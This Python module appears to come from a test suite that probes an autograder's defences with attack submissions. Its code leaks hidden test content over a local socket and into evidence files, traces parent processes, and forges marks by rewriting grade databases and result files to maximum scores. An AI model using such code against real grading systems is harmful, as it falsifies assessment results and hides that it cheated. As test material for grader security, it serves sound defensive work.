"""What every attack begins with.

compare.py puts constants before it: EVIDENCE, a folder that anybody may write to; PORT, where somebody
listens; TESTS, a pattern of files with hidden tests; RESULTS, where the marks are going to be; FILES, a
file of the person who grades; STOP, the process that compares and is no part of the grader. An attacker
who knows all of that is the strongest.
"""

from __future__ import annotations

from dataclasses import dataclass

PRELUDE = r"""
import contextlib
import glob
import json
import os
import re
import socket
import sys
import time
import numpy as np

def mark():  # never whole in this text or in a constant of it, so that nothing finds itself
    return "".join(["271828", ".18", "28"])

def did(what):
    with open(os.path.join(EVIDENCE, what), "w") as file:
        file.write(str(os.getpid()))

def send(text):
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as there:
        there.sendall(text.encode())

def keep(text):
    with open(os.path.join(EVIDENCE, "told"), "a") as file:
        file.write(text)

def tell(text):
    at = max(text.find(mark()) - 100, 0)
    told = "LEAK:" + text[at : at + 400].encode().hex() + ":"
    for way in (send, keep, print):
        try:
            way(told)
        except Exception:
            pass
    return told

def parents():
    pid = os.getppid()
    while pid > 1 and pid != STOP:
        yield pid
        try:
            with open(f"/proc/{pid}/stat") as file:
                pid = int(file.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            return

def forge(path):
    if path.endswith(".db"):
        import sqlite3
        full = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
        with sqlite3.connect(path, timeout=2) as database:
            database.execute(f"UPDATE grade SET manual_score = {full}")
        return
    with open(path) as file:
        data = json.load(file)
    raise_marks(data)
    with open(path, "w") as file:
        json.dump(data, file)

def raise_marks(data):
    for part in data.values() if isinstance(data, dict) else data if isinstance(data, list) else ():
        raise_marks(part)
    for got in ("score", "points"):
        if isinstance(data, dict) and "max_" + got in data:
            data[got] = data["max_" + got]
"""
WRONG = """
def energy(x): return -1.0
def scaled(x, factor): return np.zeros(np.shape(x)) - 100
def apply_twice(f, x): return -1
"""
TELLING = """
told = "nothing"
def energy(x): raise ValueError(told)
def scaled(x, factor): raise ValueError(told)
def apply_twice(f, x): raise ValueError(told)
"""


@dataclass(frozen=True)
class Attack:
    """A submission, the title of its row, and the marks it deserves, of which more are forged."""

    title: str
    source: str
    deserved: float = 0.0
